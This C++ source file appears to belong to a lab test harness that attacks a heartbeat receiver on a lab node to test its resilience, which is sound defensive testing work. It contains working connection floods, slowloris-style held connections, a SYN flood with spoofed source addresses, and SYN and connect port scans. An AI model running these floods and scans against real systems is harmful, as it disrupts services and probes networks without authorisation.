#include "lab/campaigns/hostile/Noise.h"

#include <algorithm>
#include <functional>
#include <random>
#include <thread>
#include <vector>

#include <poll.h>

#include "lab/campaigns/hostile/Frames.h"
#include "lab/campaigns/hostile/Heard.h"
#include "lab/campaigns/hostile/Words.h"
#include "lab/core/Files.h"
#include "lab/core/Plan.h"

namespace velarix::lab
{

namespace
{

constexpr Millis floodLimit{900000};

/// Many connections after each other, from several threads, until what is counted
/// comes to `wanted`, or as many were tried in vain.
void flood(const AttackOrders& orders, AttackTally& tally, const std::atomic<long>& counted, long wanted,
           const std::function<void(Descriptor& connection, std::mt19937_64& random)>& visit)
{
	const LabClock clock;
	const auto goesOn = [&]
	{
		const bool inVain = tally.connections == 0 && tally.tries >= wanted;
		return !orders.stop && !inVain && counted < wanted && clock.now() < floodLimit;
	};
	std::vector<std::thread> threads;
	for (std::uint64_t number = 0; number < 16; ++number)
	{
		threads.emplace_back(
		    [&, number]
		    {
			    std::mt19937_64 random(orders.seed * 1000 + number);
			    while (goesOn())
			    {
				    Descriptor connection = connectTo(doorOf(orders), knockLimit, tally);
				    connection ? visit(connection, random) : std::this_thread::sleep_for(Millis(5));
			    }
		    });
	}
	for (std::thread& thread : threads)
	{
		thread.join();
	}
}

/// How many messages that are not its partner's the target has read so far.
long readByTarget(const AttackOrders& orders)
{
	const HeardCounts heard = heardIn(contentIfAny(orders.log));
	return heard.all - heard.partner;
}

/// The receiver's buffer holds 256 bytes.
long readsOf(const std::string& words)
{
	return static_cast<long>((words.size() + 255) / 256);
}

bool isDropped(const Descriptor& connection)
{
	pollfd watched{connection.get(), POLLRDHUP, 0};
	return ::poll(&watched, 1, 0) != 0;
}

/// Waits for it, unless the target drops the connection unread.
bool isReadByTarget(const AttackOrders& orders, const Descriptor& connection, long wanted)
{
	const LabClock clock;
	bool read = false;
	while (!read && !isDropped(connection) && !orders.stop && clock.now() < Millis(15000))
	{
		std::this_thread::sleep_for(Millis(50));
		read = readByTarget(orders) >= wanted;
	}
	return read;
}

} // namespace

long resetsOf(long count)
{
	return std::max(1L, count / 10);
}

long readOnesOf(long count)
{
	return std::max(1L, count / 20);
}

sockaddr_in doorOf(const AttackOrders& orders)
{
	return socketAddress(plan::addressOf(orders.target, Network::communication), plan::heartbeatPort);
}

void sayRandom(const AttackOrders& orders, AttackTally& tally)
{
	flood(orders, tally, tally.messages, orders.count,
	      [&](Descriptor& connection, std::mt19937_64& numbers) { say(connection, randomWords(numbers), tally); });
}

void resetOften(const AttackOrders& orders, AttackTally& tally)
{
	flood(orders, tally, tally.connections, resetsOf(orders.count),
	      [&](Descriptor& connection, std::mt19937_64& numbers)
	      {
		      say(connection, randomWords(numbers).substr(0, numbers() % 40), tally);
		      resetConnection(connection);
	      });
}

/// On one connection, each when all of the one before has been read: two that are read
/// together may make a heartbeat that neither of them is.
void sayRandomSlowly(const AttackOrders& orders, AttackTally& tally)
{
	std::mt19937_64 numbers(orders.seed);
	const LabClock clock;
	const long wanted = readOnesOf(orders.count);
	long readWhole = 0;
	Descriptor connection;
	const auto limit = [&] { return tally.connections > 0 ? floodLimit : Millis(30000); };
	while (readWhole < wanted && !orders.stop && clock.now() < limit())
	{
		if (!connection)
		{
			std::this_thread::sleep_for(Millis(20));
			connection = connectTo(doorOf(orders), handshakeLimit, tally);
			continue;
		}
		const std::string words = randomWords(numbers);
		const long before = readByTarget(orders);
		if (say(connection, words, tally) && isReadByTarget(orders, connection, before + readsOf(words)))
		{
			++readWhole;
		}
		else
		{
			connection.reset();
		}
	}
}

void crowdIn(const AttackOrders& orders, AttackTally& tally)
{
	Crowd{.size = crowdSize}.besiege(doorOf(orders), tally, orders.stop);
}

void keepSilent(const AttackOrders& orders, AttackTally& tally)
{
	Crowd{.size = 1}.besiege(doorOf(orders), tally, orders.stop);
}

void dribble(const AttackOrders& orders, AttackTally& tally)
{
	Crowd{.size = 20, .words = "~"}.besiege(doorOf(orders), tally, orders.stop);
}

void hold(const AttackOrders& orders, AttackTally& tally)
{
	Crowd{.size = 1, .words = "/held/"}.besiege(doorOf(orders), tally, orders.stop);
}

void neverClose(const AttackOrders& orders, AttackTally& tally)
{
	Crowd{.size = 1, .firstWords = "/staying/", .staysWhenLeft = true}.besiege(doorOf(orders), tally, orders.stop);
}

/// 16 KiB and the farewell at once: 64 messages of 256 bytes for the receiver. A
/// connection that waits when the node has served another one is dropped unread.
void burst(const AttackOrders& orders, AttackTally& tally)
{
	const std::string first = "received message: " + std::string(256, '~');
	const LabClock clock;
	while (!orders.stop && tally.heard == 0 && clock.now() < Millis(45000))
	{
		Descriptor connection = connectTo(doorOf(orders), handshakeLimit, tally);
		const bool said = connection && say(connection, std::string(16384, '~'), tally);
		connection.reset();
		for (int look = 0; said && look < 40 && tally.heard == 0 && !orders.stop; ++look)
		{
			std::this_thread::sleep_for(Millis(50));
			tally.heard = timesIn(orders.log, first);
		}
		std::this_thread::sleep_for(Millis(20));
	}
}

void synFlood(const AttackOrders& orders, AttackTally& tally)
{
	SynSender sender;
	std::mt19937_64 numbers(orders.seed);
	while (!orders.stop)
	{
		const std::string nobody = "198.51.100." + std::to_string(128 + numbers() % 120);
		for (int port = 0; port < 20; ++port)
		{
			sender.send(doorOf(orders), socketAddress(nobody, static_cast<int>(1024 + numbers() % 60000)), tally);
		}
		std::this_thread::sleep_for(Millis(20));
	}
}

void scanBySyn(const AttackOrders& orders, AttackTally& tally)
{
	SynSender sender;
	sockaddr_in door = doorOf(orders);
	for (int port = 1; port <= highestPort && !orders.stop; ++port)
	{
		door.sin_port = htons(static_cast<std::uint16_t>(port));
		sender.send(door, socketAddress(plan::attackerAddress, 41000 + port % 20000), tally);
		std::this_thread::sleep_for(Millis(port % 100 == 0 ? 10 : 0));
	}
}

void scanByConnect(const AttackOrders& orders, AttackTally& tally)
{
	sockaddr_in door = doorOf(orders);
	AttackTally others;
	for (int port = 1; port <= highestPort && !orders.stop; ++port)
	{
		door.sin_port = htons(static_cast<std::uint16_t>(port));
		connectTo(door, knockLimit, port == plan::heartbeatPort ? tally : others);
	}
	tally.tries += others.tries;
	// The receiver closes its port between two heartbeats: a scanner looks again.
	for (int look = 0; look < 100 && tally.connections == 0 && !orders.stop; ++look)
	{
		connectTo(doorOf(orders), knockLimit, tally);
		std::this_thread::sleep_for(Millis(20));
	}
}

} // namespace velarix::lab
